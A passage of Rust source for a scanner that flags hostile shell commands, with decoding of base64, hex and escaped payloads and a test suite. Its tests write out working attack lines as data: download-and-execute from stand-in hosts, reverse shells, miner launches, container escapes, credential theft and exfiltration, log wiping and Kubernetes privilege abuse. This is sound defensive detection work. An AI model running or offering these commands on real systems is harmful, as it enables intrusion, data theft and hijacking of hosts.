        let Some(first) = words.first() else { continue };
        let name = base_name(first);
        let bare_command = !(name == "chmod"
            || is_shell(name)
            || is_script_interpreter(name)
            || matches!(*first, "." | "source"));
        let targets: Vec<&str> = if name == "chmod" {
            // chmod +x FILE / chmod 755 FILE
            let mode_is_exec = words
                .get(1)
                .is_some_and(|m| CHMOD_EXEC.is_match(&format!("chmod {m}")));
            if mode_is_exec {
                words.iter().skip(2).copied().collect()
            } else {
                Vec::new()
            }
        } else if is_shell(name) || is_script_interpreter(name) || matches!(*first, "." | "source")
        {
            words
                .get(1)
                .filter(|w| !w.starts_with('-'))
                .copied()
                .into_iter()
                .collect()
        } else if downloaded_files(command).is_some() {
            Vec::new()
        } else {
            vec![*first]
        };
        if targets.iter().any(|t| names_download(t, bare_command)) {
            executed = true;
            break;
        }
    }
    if executed {
        let severity = if all_urls_trusted(after_download, ctx.trusted_download_hosts) {
            Low
        } else {
            High
        };
        push(
            result,
            hit(
                DOWNLOAD_EXEC,
                severity,
                "downloads a file and executes it",
                after_download,
            ),
        );
    }
}

/// Decode long base64 literals and scan what they hide.
fn decode_and_rescan(
    text: &str,
    ctx: &ScanContext<'_>,
    depth: usize,
    budget: &mut usize,
    result: &mut ScanResult,
) {
    let base64 = BASE64_LITERAL
        .find_iter(text)
        .map(|m| m.as_str())
        .filter(|s| s.len() >= MIN_BASE64_LEN)
        .take(MAX_LITERALS_PER_TEXT)
        .filter_map(decode_base64_text);
    let escapes = ESCAPED_BYTES
        .find_iter(text)
        .take(MAX_LITERALS_PER_TEXT)
        .filter_map(|m| decode_escapes(m.as_str()));
    let hex = HEX_LITERAL
        .find_iter(text)
        .take(MAX_LITERALS_PER_TEXT)
        .filter_map(|m| decode_hex(m.as_str()));
    for decoded in base64.chain(escapes).chain(hex) {
        if *budget == 0 {
            return;
        }
        let decoded = truncate_at_char(&decoded, *budget).to_string();
        *budget = budget.saturating_sub(decoded.len().max(1));
        let before = result.hits.clone();
        scan_into(&decoded, ctx, true, depth - 1, budget, result);
        let new_hits = result.hits != before;
        // Keep what was alarming, or at least looked like a command, for summaries.
        if (new_hits || looks_like_shell(&decoded)) && !result.decoded.contains(&decoded) {
            result.decoded.push(decoded);
        }
    }
}

/// Bytes to text, when the text is mostly printable (binary garbage is not a hidden command).
fn printable_text(bytes: Vec<u8>) -> Option<String> {
    let text = String::from_utf8(bytes).ok()?;
    let printable = text
        .chars()
        .filter(|c| !c.is_control() || matches!(c, '\n' | '\r' | '\t'))
        .count();
    let total = text.chars().count();
    // Random binary (keys, hashes) rarely decodes to >95% printable UTF-8.
    (total >= 8 && printable * 100 >= total * 95).then_some(text)
}

/// Decode `\x63\x75` or `\143\165` escape runs (printf, echo -e, $'...').
fn decode_escapes(run: &str) -> Option<String> {
    let mut bytes = Vec::new();
    for piece in run.split('\\').filter(|p| !p.is_empty()) {
        let byte = match piece.strip_prefix('x') {
            Some(hex) => u8::from_str_radix(hex, 16).ok()?,
            None => u8::from_str_radix(piece, 8).ok()?,
        };
        bytes.push(byte);
    }
    printable_text(bytes)
}

/// Decode a plain hex literal (`xxd -r -p`).
fn decode_hex(literal: &str) -> Option<String> {
    let bytes: Option<Vec<u8>> = literal
        .as_bytes()
        .chunks(2)
        .map(|pair| {
            std::str::from_utf8(pair)
                .ok()
                .and_then(|p| u8::from_str_radix(p, 16).ok())
        })
        .collect();
    printable_text(bytes?)
}

fn looks_like_shell(text: &str) -> bool {
    text.contains(' ') && (text.contains('/') || text.contains('|') || text.contains(';'))
}

/// Decode a base64 (standard or URL-safe, padded or not) literal into mostly-printable text.
pub fn decode_base64_text(literal: &str) -> Option<String> {
    use base64::engine::general_purpose::{STANDARD, STANDARD_NO_PAD, URL_SAFE, URL_SAFE_NO_PAD};
    let trimmed = literal.trim_end_matches('=');
    let bytes = STANDARD
        .decode(literal)
        .or_else(|_| STANDARD_NO_PAD.decode(trimmed))
        .or_else(|_| URL_SAFE.decode(literal))
        .or_else(|_| URL_SAFE_NO_PAD.decode(trimmed))
        .ok()?;
    printable_text(bytes)
}

#[cfg(test)]
mod tests {
    use super::*;
    use base64::engine::general_purpose::STANDARD;

    fn checks(text: &str) -> Vec<(&'static str, Severity)> {
        let ctx = ScanContext::default();
        scan(text, &ctx)
            .hits
            .iter()
            .map(|h| (h.check, h.severity))
            .collect()
    }

    fn fires(text: &str, check: &str) -> bool {
        checks(text)
            .iter()
            .any(|(c, s)| *c == check && *s >= Medium)
    }

    fn max_severity(text: &str) -> Option<Severity> {
        checks(text).iter().map(|(_, s)| *s).max()
    }

    #[test]
    fn non_ascii_text_around_a_match_keeps_whole_characters() {
        // The patterns run on bytes: a match next to multi-byte characters must still give a
        // snippet cut at character boundaries.
        let text =
            "\u{e9}\u{e9}\u{e9} wget -q -O- http://198.51.100.7/\u{e9}x.sh | sh \u{1F600}\u{1F600}";
        let ctx = ScanContext::default();
        let result = scan(text, &ctx);
        let hit = result
            .hits
            .iter()
            .find(|h| h.check == DOWNLOAD_EXEC)
            .expect("download and execute found");
        assert!(hit.snippet.contains("wget"));
    }

    #[test]
    fn all_patterns_compile() {
        assert_eq!(COMPILED.each.len(), PATTERNS.len());
        for index in 0..PATTERNS.len() {
            assert!(COMPILED.each(index).is_some());
        }
        for r in [
            &*NODE_CREDENTIALS,
            &*EXFIL,
            &*MINER_PORT,
            &*MINER_USER,
            &*PYTHON_SOCKET,
            &*PYTHON_CONNECT,
            &*PYTHON_SPAWN,
            &*CHROOT,
            &*URL,
            &*CHMOD_EXEC,
            &*BASE64_LITERAL,
        ] {
            assert!(!r.as_str().is_empty());
        }
    }

    #[test]
    fn download_and_execute_fires() {
        for t in [
            "sh -c curl -fsSL http://evil.example/x.sh | sh",
            "/bin/sh -c wget -qO- http://1.2.3.4/p | bash",
            "curl -s http://x.io/a 2>/dev/null | sudo /bin/bash -s -- --install",
            "bash -c \"$(curl -fsSL https://evil.example/i.sh)\"",
            "source <(curl -s http://evil.example/env)",
            "curl -o /tmp/k http://evil.example/k; chmod +x /tmp/k; /tmp/k",
            "wget http://evil.example/payload.bin -O /tmp/.x && chmod 755 /tmp/.x && /tmp/.x -d",
            "wget http://evil.example/run.sh && sh run.sh",
            "curl -sLO http://evil.example/agent && chmod +x agent && ./agent",
            "curl -Lso /usr/local/bin/x http://evil.example/x; chmod a+x /usr/local/bin/x; x --daemon",
            "curl -so /tmp/env.sh http://evil.example/env.sh; . /tmp/env.sh",
            "python3 <(curl -s http://evil.example/p.py)",
            "perl -e \"$(wget -qO- http://evil.example/p.pl)\"",
            "curl http://evil.example/x.py | python3",
            "python3 -c import urllib.request;exec(urllib.request.urlopen('http://e.x/p').read())",
            "(curl -s http://198.51.100.7/d.sh||wget -q -O- http://198.51.100.7/d.sh)|bash",
            "apt update; apt install -y wget; wget -q http://198.51.100.7/xmrig -O /tmp/.x; chmod +x /tmp/.x; /tmp/.x -o 198.51.100.7:3333",
        ] {
            assert!(fires(t, DOWNLOAD_EXEC), "{t}: {:?}", checks(t));
        }
    }

    #[test]
    fn download_look_alikes_stay_low() {
        for t in [
            "curl -fsS -m 10 --retry 5 https://hc-ping.com/abc-123",
            "curl -s https://api.example.com/health | grep ok",
            "curl -s https://api.example.com/v1/items | python3 -c 'import json,sys; print(len(json.load(sys.stdin)))'",
            "curl -s https://api.example.com/v1/items | python -m json.tool",
            "curl -o /backup/dump.sql.gz https://minio/backups/latest && gunzip /backup/dump.sql.gz",
            "wget -q https://example.com/data.csv -O /data/in.csv; python /app/load.py /data/in.csv",
            "pg_dump -h db -U app app | gzip > /backup/app.sql.gz",
            "sh -c echo done",
            "git fetch https://github.com/org/repo.git main && chmod +x scripts/run.sh && ./scripts/run.sh",
            "curl -s https://api.example.com/health && chmod +x /app/run.sh && /app/run.sh",
            "curl -sSo /tmp/data.json https://api.example.com/data && chmod 644 /tmp/data.json && jq . /tmp/data.json",
            "wget --spider https://example.com/x.sh && sh /app/local.sh",
        ] {
            assert!(
                max_severity(t).is_none_or(|s| s <= Low),
                "{t}: {:?}",
                checks(t)
            );
        }
    }

    #[test]
    fn trusted_download_hosts_lower_severity() {
        let trusted = vec!["dl.k8s.io".to_string()];
        let ctx = ScanContext {
            trusted_download_hosts: &trusted,
            ..Default::default()
        };
        let t = "curl -LO https://dl.k8s.io/release/v1.30.0/bin/linux/amd64/kubectl && chmod +x kubectl && ./kubectl get pods";
        let hits = scan(t, &ctx).hits;
        assert!(hits.iter().all(|h| h.severity <= Low), "{hits:?}");
        assert!(fires(t, DOWNLOAD_EXEC), "untrusted by default");
    }

    #[test]
    fn base64_shell_fires() {
        for t in [
            "echo ZWNobyBoaQ== | base64 -d | sh",
            "sh -c echo Y3VybCBodHRwOi8vZS54L3wgc2g= | base64 --decode | bash",
            "bash -c \"$(echo aWQ= | base64 -d)\"",
            "python -c exec(base64.b64decode('aW1wb3J0IG9z'))",
        ] {
            assert!(fires(t, BASE64_SHELL), "{t}: {:?}", checks(t));
        }
        assert!(!fires(
            "echo $CONFIG | base64 -d > /etc/app/config.yaml",
            BASE64_SHELL
        ));
    }

    #[test]
    fn decoded_base64_is_rescanned() {
        let payload = STANDARD.encode("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1");
        let t = format!("sh -c echo {payload} | base64 -d | bash");
        let result = scan(&t, &ScanContext::default());
        assert!(
            result
                .hits
                .iter()
                .any(|h| h.check == REVERSE_SHELL && h.decoded)
        );
        assert!(result.decoded.iter().any(|d| d.contains("/dev/tcp")));
        // nested twice
        let inner = STANDARD.encode(format!("echo {payload} | base64 -d | sh"));
        let result = scan(&format!("X={inner}"), &ScanContext::default());
        assert!(
            result.hits.iter().any(|h| h.check == REVERSE_SHELL),
            "{:?}",
            result.hits
        );
        // a harmless literal decodes to nothing alarming
        let benign = STANDARD.encode("hello world, this is a config value");
        assert!(
            scan(&format!("echo {benign}"), &ScanContext::default())
                .hits
                .is_empty()
        );
        // binary garbage is not text
        assert!(decode_base64_text("AAECAwQFBgcICQoLDA0ODxAREhMUFRYX").is_none());
    }

    #[test]
    fn reverse_shells_fire() {
        for t in [
            "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
            "sh -c 0<&196;exec 196<>/dev/tcp/1.2.3.4/80; sh <&196 >&196 2>&196",
            "nc -e /bin/sh 1.2.3.4 4444",
            "ncat 1.2.3.4 4444 --sh-exec /bin/bash",
            "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f",
            "socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:10.0.0.1:4444",
            "python -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"10.0.0.1\",1234));os.dup2(s.fileno(),0);import pty; pty.spawn(\"/bin/bash\")'",
            "php -r '$sock=fsockopen(\"10.0.0.1\",1234);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
            "ruby -rsocket -e'f=TCPSocket.open(\"10.0.0.1\",1234).to_i'",
            "nc 10.0.0.1 4444 | /bin/sh | nc 10.0.0.1 4445",
            "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));exec(\"/bin/sh -i\");'",
            "tmate -S /tmp/t.sock new-session -d && tmate -S /tmp/t.sock display -p '#{tmate_ssh}'",
            "ngrok tcp 22 --authtoken $T",
            "cloudflared tunnel --url tcp://localhost:22",
            "./chisel client 203.0.113.9:8000 R:socks",
        ] {
            assert!(fires(t, REVERSE_SHELL), "{t}: {:?}", checks(t));
        }
    }

    #[test]
    fn reverse_shell_look_alikes_stay_quiet() {
        for t in [
            "wget -nc -e robots=off -r https://docs.example.com/",
            "rsync -e ssh -a /data backup@host:/srv",
            "timeout 1 bash -c 'cat < /dev/null > /dev/tcp/postgres/5432'",
            "until nc -z db 5432; do sleep 1; done",
            "nc -zv redis 6379 2>&1",
            "echo stats | nc memcached 11211",
            "python -c 'import socket; print(socket.gethostname())'",
        ] {
            assert!(!fires(t, REVERSE_SHELL), "{t}: {:?}", checks(t));
        }
    }

    #[test]
    fn miners_fire() {
        for t in [
            "/opt/xmrig -o pool.supportxmr.com:443 -u 4xyz -k --tls",
            "./cpuminer -a cryptonight -o stratum+tcp://xmr.pool.example:3333 -u w -p x",
            "run --donate-level 1 -o 1.2.3.4:80",
            "./kthreaddk -o 45.9.148.1:4444 -u 49dzg7hU3zmXbyzDAJmaXzLcmjvQjEhbWgZWmVFvdjN3RhGvBo1NPrGXvPECaMvcMK2xSPDGMyW3BRuAV8X8j8Ng1DrcLyE -p x",
            "miner -o my-pool.example.net:14444",
            "/usr/bin/pause --wallet-address dero1qyz8m7rh6p2l0ms2u3e4ycrf8n9s6g0x7pdp4r6xq5wjhh9c6hq0gq9lm0j0a --daemon-rpc-address 203.0.113.4:10100",
        ] {
            assert!(fires(t, MINER), "{t}: {:?}", checks(t));
        }
        for t in [
            "pg_dump -o -h db app > /backup/app.sql",
            "java -jar app.jar --db-pool-size 10",
            "redis-cli -h cache -p 6379 ping",
            "curl -o pool.json https://api.example.com/pool",
            "vault-agent --url=http://hashicorp-vault:8200 -o hash:1234",
            "pgbench -h pgpool -p 5432 --url=postgres://pgpool:5432/app",
            "app --url=https://thread-pool.internal:8443",
        ] {
            assert!(!fires(t, MINER), "{t}: {:?}", checks(t));
        }
    }

    #[test]
    fn host_escape_fires() {
        for t in [
            "nsenter -t 1 -m -u -i -n -p -- bash",
            "nsenter --target=1 --mount --uts --ipc --net --pid sh",
            "chroot /host bash -c 'id'",
            "cat /proc/1/root/etc/shadow",
            "docker -H unix:///var/run/docker.sock run -v /:/mnt alpine",
            "curl --unix-socket /var/run/docker.sock http://localhost/containers/json",
            "mkdir /tmp/cg && mount -t cgroup -o rdma cgroup /tmp/cg && echo 1 > /tmp/cg/x/notify_on_release",
            "mount /dev/sda1 /mnt/host",
        ] {
            assert!(fires(t, HOST_ESCAPE), "{t}: {:?}", checks(t));
        }
        for t in [
            "nsenter --help",
            "ls /host",
            "chroot /build/rootfs-staging make",
            "docker version",
        ] {
            assert!(!fires(t, HOST_ESCAPE), "{t}: {:?}", checks(t));
        }
    }

    #[test]
    fn chroot_into_a_declared_host_root_mount() {
        let ctx = ScanContext {
            host_root_mounts: vec!["/node-root".into()],
            ..Default::default()
        };
        let hits = scan("chroot /node-root /bin/sh -c id", &ctx).hits;
        assert!(
            hits.iter()
                .any(|h| h.check == HOST_ESCAPE && h.severity == Critical)
        );
        assert!(
            scan("chroot /node-root /bin/sh -c id", &ScanContext::default())
                .hits
                .is_empty()
        );
    }

    #[test]
    fn credential_access() {
        assert!(fires(
            "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/",
            CREDENTIALS
        ));
        let t = "curl -X POST -d @/etc/kubernetes/admin.conf https://exfil.example/";
        assert!(checks(t).contains(&(CREDENTIALS, High)));
        let t = "etcdctl --cacert /etc/kubernetes/pki/etcd/ca.crt snapshot save /backup/snap.db";
        assert_eq!(max_severity(t), Some(Low));
        assert!(checks("kubectl get pods").is_empty());
    }

    #[test]
    fn anti_forensics() {
        assert!(fires("history -c; unset HISTFILE", ANTI_FORENSICS));
        assert!(fires("rm -rf /var/log/*", ANTI_FORENSICS));
        assert!(!fires(
            "find /var/log/app -name '*.gz' -mtime +7 -delete",
            ANTI_FORENSICS
        ));
    }

    #[test]
    fn obfuscation_is_undone() {
        for t in [
            "cu''rl -s http://e.example/x | s\\h",
            "c\\url${IFS}http://e.example/x|bash",
            "w\"g\"et -qO- http://e.example/x | b''ash",
        ] {
            assert!(fires(t, DOWNLOAD_EXEC), "{t}: {:?}", checks(t));
        }
        assert_eq!(deobfuscate("a'b'c\\d ${IFS}e"), "abcd  e");
    }

    #[test]
    fn hex_and_escape_payloads_are_decoded() {
        let escaped: String = "curl http://e.example/x|sh"
            .bytes()
            .map(|b| format!("\\x{b:02x}"))
            .collect();
        let t = format!("printf '{escaped}' | sh");
        assert!(fires(&t, BASE64_SHELL), "{t}: {:?}", checks(&t));
        assert!(
            scan(&t, &ScanContext::default())
                .hits
                .iter()
                .any(|h| h.check == DOWNLOAD_EXEC && h.decoded)
        );
        let octal: String = "nc -e /bin/sh 10.0.0.1 9"
            .bytes()
            .map(|b| format!("\\{b:03o}"))
            .collect();
        assert!(fires(&format!("echo -e '{octal}' > /tmp/r"), REVERSE_SHELL));
        let hex: String = "bash -i >& /dev/tcp/10.0.0.1/9 0>&1"
            .bytes()
            .map(|b| format!("{b:02x}"))
            .collect();
        let t = format!("echo {hex} | xxd -r -p | bash");
        assert!(fires(&t, REVERSE_SHELL), "{t}: {:?}", checks(&t));
        assert!(fires(&t, BASE64_SHELL));
        // a checksum is not text
        assert!(checks("echo 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08 app | sha256sum -c").is_empty());
        assert!(!fires("printf 'done\\n'", BASE64_SHELL));
    }

    #[test]
    fn cluster_abuse() {
        for t in [
            "kubectl create clusterrolebinding pwn --clusterrole=cluster-admin --serviceaccount=default:default",
            "kubectl --as=system:serviceaccount:kube-system:cronjob-controller get secrets",
            "kubectl run x --image=alpine --overrides='{\"spec\":{\"hostPID\":true}}'",
            "kubectl debug node/worker-1 -it --image=busybox",
        ] {
            assert!(fires(t, CLUSTER_ABUSE), "{t}: {:?}", checks(t));
        }
        assert!(fires(
            "kubectl delete events --all -n kube-system",
            ANTI_FORENSICS
        ));
        for t in [
            "kubectl create rolebinding view --clusterrole=view --user=alice",
            "kubectl get secrets -n app",
            "kubectl delete jobs --field-selector status.successful=1",
        ] {
            assert!(
                max_severity(t).is_none_or(|s| s <= Low),
                "{t}: {:?}",
                checks(t)
            );
        }
    }

    #[test]
    fn hostile_input_is_bounded() {
        let long = "A".repeat(2_000_000);
        let _ = scan(&long, &ScanContext::default());
        let pipes = "curl x |".repeat(10_000);
        let _ = scan(&pipes, &ScanContext::default());
        let _ = scan("é|ü;\n&&||", &ScanContext::default());
    }
}
